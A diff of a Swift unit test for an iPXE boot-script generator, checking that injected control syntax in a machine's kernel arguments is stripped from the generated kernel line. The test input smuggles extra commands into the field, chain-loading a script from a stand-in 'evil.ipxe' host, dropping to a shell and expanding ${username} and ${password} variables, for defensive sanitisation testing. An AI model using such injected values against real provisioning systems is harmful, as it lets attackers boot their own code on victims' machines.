@@ -223,10 +223,10 @@ struct GoldenFileTests {
     func ipxeSyntaxDropped() throws {
         let lab = try Self.lab()
         var machine = lab.machine("web-01")
-        machine.settings.kernelArgs = "quiet && chain http://198.18.0.66/evil.ipxe || shell ; reboot #hidden ${username}"
+        machine.settings.kernelArgs = "quiet && chain http://198.18.0.66/evil.ipxe || shell ; reboot #hidden ${username} a=${{password}"
         let script = IPXEScript.machine(machine, intent: .install(lab.profile("debian-12")), server: Self.server)
         let kernel = try #require(script.split(separator: "\n").first { $0.hasPrefix("kernel ") })
-        #expect(kernel.hasSuffix("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg quiet chain http://198.18.0.66/evil.ipxe shell reboot $username}"),
+        #expect(kernel.hasSuffix("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg quiet chain http://198.18.0.66/evil.ipxe shell reboot"),
                 "\(kernel)")
     }
 
